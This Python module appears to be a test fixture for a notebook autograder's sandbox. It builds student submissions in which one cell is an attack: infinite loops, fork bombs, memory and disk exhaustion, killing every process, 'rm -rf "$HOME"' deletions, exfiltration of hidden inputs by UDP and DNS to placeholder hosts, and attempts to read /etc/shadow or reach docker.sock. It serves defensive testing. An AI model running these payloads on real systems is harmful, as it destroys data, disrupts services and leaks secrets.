"""Attacks on the computer, which must cost the tasks from there on and no more."""

from pathlib import Path

from attacks_neighbours import CONNECTION
from build import (
    MOST,
    POINTS,
    RIGHT,
    Submission,
    earned,
    guarded,
    notebook,
    save,
)

#: with an attack in place of the third answer: what was earned before it, and what may still be earned after it
EARLIER = earned("and_not", "at_least")
LATER = MOST - EARLIER - earned("by_hand")


def machine(name: str, why: str, attack: str, after: str = "perhaps", answers: dict | None = None) -> Submission:
    """Right answers with an attack in place of the third; the tasks after it are earned "never", "perhaps" or "surely".

    "never": the kernel is dead; "perhaps": where the attack is only interrupted, what follows still counts.
    """
    tasks = {"and_not": POINTS["and_not"], "at_least": POINTS["at_least"], "by_hand": 0}
    tasks |= {task: {"never": 0, "surely": POINTS[task]}[after] for task in [*POINTS][3:] if after != "perhaps"}
    score = EARLIER + (LATER if after == "surely" else 0)

    def build(folder: Path) -> None:
        save(folder, notebook(RIGHT | {"by_hand": attack} | (answers or {})))

    at_most = EARLIER + LATER if after == "perhaps" else None
    return Submission(f"machine-{name}", "machine", build, score, why, at_most=at_most, tasks=tasks)


def ending(name: str, why: str, last: str) -> Submission:
    """Right answers, all of them earned, and an attack in the last cell."""
    return Submission(
        f"machine-{name}",
        "machine",
        lambda folder: save(folder, notebook(RIGHT, last=last)),
        MOST,
        why,
        tasks=dict(POINTS),
    )


LOOPS = [
    machine("loop", "A loop without end; SIGINT to the kernel's own process ends it.", "while True: pass"),
    machine(
        "loop-stubborn",
        "A loop that catches KeyboardInterrupt: only SIGKILL ends it.",
        """
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
    ),
    machine(
        "loop-deaf",
        "Ignores SIGINT and SIGTERM, then loops.",
        """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True: pass
        """,
        "never",
    ),
    machine(
        "loop-finally",
        "An interrupted loop goes on in its `finally`.",
        """
        try:
            while True: pass
        finally:
            while True: pass
        """,
    ),
    machine("sleep", "Sleeps for thirty years.", "import time\ntime.sleep(1e9)"),
    machine("power", "A number so large that C code computes it for minutes, deaf to signals.", "n = 10 ** 10 ** 8"),
    machine("digits", "Arithmetic in C that is not interrupted.", "import math\nn = math.factorial(10**8)"),
    machine(
        "regex",
        "A regular expression that goes back exponentially.",
        """
        import re
        re.match(r"(a|aa)+$", "a" * 200 + "b")
        """,
    ),
    machine(
        "c-loop",
        "A loop in C without end that never looks at signals.",
        """
        import collections, itertools
        collections.deque(itertools.repeat(0), maxlen=0)
        """,
        "never",
    ),
    machine(
        "lock",
        "Waits for a lock that nobody gives back, again and again.",
        """
        import threading
        lock = threading.Lock()
        while True:
            lock.acquire()
        """,
    ),
    machine(
        "lock-held",
        "Sleeps in C and keeps Python's lock, so that no other thread runs.",
        """
        import ctypes
        while True:
            ctypes.PyDLL(None).usleep(500_000)
        """,
    ),
    machine(
        "fifo",
        "Opens a pipe of its own that nobody writes to.",
        """
        import os
        os.mkfifo("pipe")
        open("pipe").read()
        """,
    ),
    machine("await", "A coroutine that waits without end.", "import asyncio\nawait asyncio.Event().wait()"),
    machine(
        "input",
        "Forces the kernel to ask for input and waits for it.",
        """
        get_ipython().kernel._allow_stdin = True
        get_ipython().kernel.raw_input("answer? ")
        """,
    ),
    Submission(
        "machine-loop-when-called",
        "machine",
        lambda folder: save(folder, notebook(RIGHT | {"at_least": "def at_least(k, d):\n    while True: pass"})),
        earned("and_not"),
        "A function that never returns: the deadline must hold for the grader's own calls too.",
        at_most=MOST - earned("at_least"),
        tasks={"and_not": earned("and_not"), "at_least": 0},
    ),
    Submission(
        "machine-sleep-when-called",
        "machine",
        lambda folder: save(
            folder,
            notebook(
                RIGHT | {"same_side": "import time\ndef same_side(a, b, w):\n    time.sleep(1e6)\n    return True"}
            ),
        ),
        earned("and_not", "at_least", "by_hand"),
        "A function that sleeps, once for each input.",
        at_most=MOST - earned("same_side"),
        tasks={"and_not": 2, "at_least": 3, "by_hand": 2, "same_side": 0},
    ),
    Submission(
        "machine-exit-when-called",
        "machine",
        lambda folder: save(
            folder, notebook(RIGHT | {"same_side": "import os\ndef same_side(a, b, w):\n    os._exit(0)"})
        ),
        earned("and_not", "at_least", "by_hand"),
        "A function that ends the kernel while it is asked.",
        tasks={
            "and_not": 2,
            "at_least": 3,
            "by_hand": 2,
            "same_side": 0,
            "recoded": 0,
            "flowers_apart": 0,
            "all_samples": 0,
        },
    ),
    machine(
        "slow-everywhere",
        "Every cell takes as long as it may: the deadline of the notebook must hold as well.",
        "import time\ntime.sleep(1e5)",
        "never",
        {name: f"import time\ntime.sleep(1e5)\n{RIGHT[name]}" for name in [*POINTS][3:]},
    ),
]

OUTPUTS = [
    machine("print-flood", "Prints without end.", "while True:\n    print('x' * 1_000_000)"),
    machine("print-lines", "Prints short lines without end: many messages.", "while True:\n    print('x', flush=True)"),
    machine(
        "stderr-gigabytes",
        "Writes gigabytes to stderr.",
        """
        import sys
        for _ in range(4000):
            sys.stderr.write("x" * 1_000_000)
        """,
    ),
    machine(
        "descriptor-flood",
        "Writes to descriptors 1 and 2, past the kernel's capture.",
        guarded("""
        for _ in range(20_000):
            os.write(1, b"x" * 100_000)
            os.write(2, b"x" * 100_000)
        """),
    ),
    machine(
        "display-gigabyte",
        "One display message of a gigabyte.",
        guarded("""
        from IPython.display import display
        display({"text/plain": "x" * 10**9}, raw=True)
        """),
    ),
    machine(
        "display-many",
        "Millions of small display messages.",
        """
        from IPython.display import display
        for number in range(10**7):
            display(number, display_id=str(number))
        """,
    ),
    machine(
        "display-deep",
        "An output nested 900 deep, for whoever copies or writes it.",
        """
        from IPython.display import display
        deep = {}
        for _ in range(900):
            deep = {"a": deep}
        display({"application/json": deep, "text/plain": ""}, raw=True)
        """,
    ),
    machine("error-huge", "An exception with a message of 100 megabytes.", "raise ValueError('x' * 10**8)"),
    machine(
        "error-chain",
        "A chain of 20,000 exceptions.",
        """
        error = None
        for _ in range(20_000):
            new = ValueError("x" * 100)
            new.__cause__ = error
            error = new
        raise error
        """,
    ),
    machine(
        "value-huge", "Answers of a gigabyte: what comes out must be capped.", "s = output = distance = np.zeros(10**8)"
    ),
    machine("value-text", "An answer of 300 million letters.", "s = output = distance = 'x' * (3 * 10**8)"),
]

FILL = """
for number in range({count}):
    with open("{folder}/fill-" + str(number), "wb") as file:
        file.write(bytes(1_000_000))
"""


def fill(name: str, folder: str, where: str) -> Submission:
    attack = guarded(f"folder = os.path.expanduser({folder!r})\n" + FILL.format(count=4000, folder='" + folder + "'))
    return machine(f"disk-{name}", f"Fills {where} with four gigabytes.", attack)


RESOURCES = [
    machine(
        "memory-arrays",
        "Takes memory, array by array, until there is none.",
        guarded("""
        keep = []
        for _ in range(512):
            keep.append(np.ones(2**24))
        """),
    ),
    machine("memory-once", "Asks for a terabyte at once.", guarded("keep = np.ones(2**37)")),
    machine(
        "memory-text", "Doubles a text until memory ends.", guarded("text = 'x'\nfor _ in range(37):\n    text += text")
    ),
    machine(
        "memory-children",
        "Thirty children take a gigabyte each: a limit for each process is not enough.",
        guarded("""
        import time
        for _ in range(30):
            if os.fork() == 0:
                keep = bytearray(b"x") * 10**9
                time.sleep(300)
                os._exit(0)
        """),
    ),
    machine(
        "memory-shared",
        "Anonymous shared memory that belongs to no process.",
        guarded("""
        keep = []
        for number in range(64):
            handle = os.memfd_create(f"hog-{number}")
            for _ in range(256):
                os.write(handle, bytes(1_000_000))
            keep.append(handle)
        """),
    ),
    machine(
        "fork-bomb",
        "Sixteen thousand processes by fork.",
        guarded("""
        import time
        parent = os.getpid()
        for _ in range(14):
            try:
                os.fork()
            except OSError:
                pass
        if os.getpid() != parent:
            time.sleep(300)
            os._exit(0)
        """),
    ),
    machine(
        "fork-bomb-shell",
        "A fork bomb in the shell, sixteen thousand processes.",
        guarded("""
        import subprocess
        bomb = 'f() { if [ "$1" -gt 0 ]; then f $(($1 - 1)) & f $(($1 - 1)) & fi; sleep 300; }; f 13'
        subprocess.Popen(["bash", "-c", bomb])
        """),
    ),
    machine(
        "process-loop",
        "Starts five thousand programs and waits for none.",
        guarded("""
        import subprocess
        keep = [subprocess.Popen(["sleep", "300"]) for _ in range(5000)]
        """),
    ),
    machine(
        "fork-holding-pipe",
        "A child keeps stdout and stderr open: who waits for their end waits long.",
        guarded("""
        import subprocess
        child = subprocess.Popen(["sleep", "300"], start_new_session=True)
        """),
        "surely",
    ),
    machine(
        "thread-bomb",
        "Twenty thousand threads.",
        guarded("""
        import threading, time
        for _ in range(20_000):
            threading.Thread(target=time.sleep, args=[300], daemon=True).start()
        """),
    ),
    fill("cwd", ".", "the working directory"),
    fill("home", "~", "the home directory"),
    fill("tmp", "/tmp", "/tmp"),
    fill("shm", "/dev/shm", "/dev/shm"),
    machine(
        "disk-connection",
        "Fills the folder of the kernel's connection file.",
        guarded(CONNECTION + FILL.format(count=4000, folder='" + folder + "')),
    ),
    machine(
        "disk-one-file",
        "One file of a terabyte, and one without holes that grows.",
        guarded("""
        with open("huge", "wb") as file:
            for _ in range(4000):
                file.write(bytes(1_000_000))
            file.truncate(1 << 40)
        """),
    ),
    machine(
        "disk-inodes",
        "Two million empty files and folders.",
        guarded("""
        for number in range(1_000_000):
            os.makedirs(f"n/{number % 1000}", exist_ok=True)
            open(f"n/{number % 1000}/{number}", "w").close()
        """),
    ),
    machine(
        "descriptors",
        "Opens files until there are no descriptors left, and keeps them.",
        """
        import os
        keep = []
        while True:
            keep.append(os.open("/dev/null", os.O_RDONLY))
        """,
    ),
    machine(
        "limits",
        "Sets its own limits to nothing.",
        """
        import resource
        resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        """,
    ),
    machine(
        "limits-raised",
        "Raises its limits and its priority, then tries to take 20 gigabytes.",
        guarded("""
        import resource
        for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
            try:
                resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                os.setpriority(os.PRIO_PROCESS, 0, -20)
            except (OSError, ValueError):
                pass
        keep = [np.ones(2**27) for _ in range(20)]
        """),
    ),
]

DEATHS = [
    machine("exit-os", "os._exit: the kernel is gone without a word.", "import os\nos._exit(0)", "never"),
    machine("exit-sys", "sys.exit(0): says that all went well.", "import sys\nsys.exit(0)"),
    machine("exit-quit", "exit(): asks the kernel to end.", "exit()"),
    machine("segfault", "Reads address 0.", "import ctypes\nctypes.string_at(0)", "never"),
    machine("abort", "os.abort leaves a core file where it may.", "import os\nos.abort()", "never"),
    machine("kill-self", "SIGKILL to itself.", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "never"),
    machine("term-self", "SIGTERM to itself.", "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)"),
    machine(
        "stop-self",
        "SIGSTOP to itself: alive, but it will not answer.",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    ),
    machine("kill-parent", "SIGKILL to its parent.", guarded("import signal\nos.kill(os.getppid(), signal.SIGKILL)")),
    machine(
        "stop-parent",
        "SIGSTOP to its parent: who waits for it waits for ever.",
        guarded("import signal\nos.kill(os.getppid(), signal.SIGSTOP)"),
    ),
    machine(
        "kill-all", "SIGKILL to every process it may signal.", guarded("import signal\nos.kill(-1, signal.SIGKILL)")
    ),
    machine(
        "kill-each",
        "SIGKILL to every process it sees in /proc.",
        guarded("""
        import signal
        for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """),
    ),
    machine(
        "signal-group",
        "SIGINT, SIGTERM and SIGSTOP to its process group, in the hope that the grader is in it.",
        guarded("""
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):
            os.killpg(0, number)
        """),
    ),
    machine(
        "stack",
        "A stack overflow in C.",
        """
        import sys
        sys.setrecursionlimit(10**9)
        deep = []
        for _ in range(10**6):
            deep = [deep]
        repr(deep)
        """,
    ),
    machine(
        "recursion",
        "A recursion without end: an ordinary RecursionError.",
        "def f():\n    return f()\n\n\nf()",
        "surely",
    ),
    machine(
        "close-descriptors",
        "Closes descriptors 0 to 1023, the kernel's sockets among them.",
        "import os\nos.closerange(0, 1024)",
        "never",
    ),
    machine("close-output", "Closes stdout and stderr.", "import sys\nsys.stdout.close()\nsys.stderr.close()"),
    machine("loop-stopped", "Stops the kernel's event loop.", "import asyncio\nasyncio.get_event_loop().stop()"),
    machine(
        "context-closed",
        "Destroys the kernel's messaging context.",
        "get_ipython().kernel.shell_stream.socket.context.destroy(linger=0)",
    ),
    machine(
        "threads-killed",
        "Raises SystemExit in every other thread of the kernel.",
        """
        import ctypes, threading
        for thread in threading.enumerate():
            if thread is not threading.main_thread():
                ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(thread.ident), ctypes.py_object(SystemExit))
        """,
    ),
    machine(
        "delete-cwd",
        "Deletes its working directory.",
        guarded("import shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)"),
    ),
    machine(
        "delete-all",
        "Deletes by the shell whatever it may.",
        guarded("""
        os.system('rm -rf "$HOME" ./* /tmp/* /dev/shm/* /run/kernel/* 2>/dev/null')
        """),
    ),
    machine(
        "delete-connection",
        "Deletes the folder of the kernel's connection file and sockets.",
        guarded(CONNECTION + "import shutil\nshutil.rmtree(folder, ignore_errors=True)"),
    ),
    machine(
        "modes",
        "Takes all rights from its folders, so that nobody can clean up.",
        guarded("""
        for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm"):
            try:
                os.makedirs(f"{folder}/locked/inner", exist_ok=True)
                os.chmod(f"{folder}/locked", 0)
                os.chmod(folder, 0)
            except OSError:
                pass
        """),
    ),
    ending(
        "exit-hangs",
        "Leaves an exit function that never ends: shutting down must not wait for it.",
        """
        import atexit, time
        atexit.register(time.sleep, 1e9)
        """,
    ),
    ending(
        "exit-deaf",
        "A thread that is no daemon and ignored signals keep the kernel from ending.",
        """
        import signal, threading, time
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        threading.Thread(target=time.sleep, args=[1e6]).start()
        """,
    ),
    ending(
        "shutdown-hangs",
        "The kernel's own shutdown never returns.",
        """
        import time
        get_ipython().kernel.do_shutdown = lambda restart: time.sleep(1e9)
        """,
    ),
]

NETWORK = [
    machine(
        "network-loopback",
        "Looks for servers of this machine: gradebooks, notebooks, other kernels.",
        guarded("""
        import socket
        for port in (22, 80, 5432, 6379, 8080, 8786, 8787, 8888, 8889, 9000):
            for kind, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
                try:
                    with socket.socket(kind) as s:
                        s.settimeout(0.2)
                        s.connect((address, port))
                        s.sendall(b"GET /api HTTP/1.0\\r\\n\\r\\n")
                        answers = s.recv(9999)
                except Exception:
                    pass
        """),
        "surely",
    ),
    machine(
        "network-tcp",
        "Asks a friend outside for the answers.",
        guarded("""
        import socket
        try:
            answers = socket.create_connection(("192.0.2.1", 80), timeout=1).recv(9999)
        except OSError:
            pass
        """),
        "surely",
    ),
    machine(
        "network-udp",
        "Sends the hidden inputs outside by UDP.",
        guarded("""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for port in range(1000, 1100):
            try:
                s.sendto(b"inputs", ("192.0.2.1", port))
            except OSError:
                pass
        """),
        "surely",
    ),
    machine(
        "network-dns",
        "Sends the hidden inputs outside in names to look up.",
        guarded("""
        import socket
        try:
            socket.getaddrinfo("inputs.answers.invalid", 80)
        except OSError:
            pass
        """),
        "surely",
    ),
    machine(
        "network-raw",
        "Raw and netlink sockets, to see and alter the network.",
        guarded("""
        import socket
        for kind in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (16, 3, 0)):
            try:
                socket.socket(*kind).close()
            except OSError:
                pass
        """),
        "surely",
    ),
    machine(
        "network-sockets",
        "Connects to abstract and ordinary Unix sockets: Docker, databases, the session bus.",
        guarded("""
        import socket
        names = [line.split()[-1] for line in open("/proc/net/unix") if " @" in line or " /" in line]
        for name in [*names, "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.s.PGSQL.5432"]:
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.settimeout(0.2)
                    s.connect(name.replace("@", "\\0", 1))
            except OSError:
                pass
        """),
        "surely",
    ),
    machine(
        "shell",
        "Shell commands and privileged programs.",
        guarded("""
        for command in ("su -c id", "sudo -n id", "mount -t tmpfs x /mnt", "crontab -l", "cat /etc/shadow"):
            os.system(f"timeout 2 {command} > /dev/null 2>&1 < /dev/null")
        """),
        "surely",
    ),
]

MACHINE = [*LOOPS, *OUTPUTS, *RESOURCES, *DEATHS, *NETWORK]
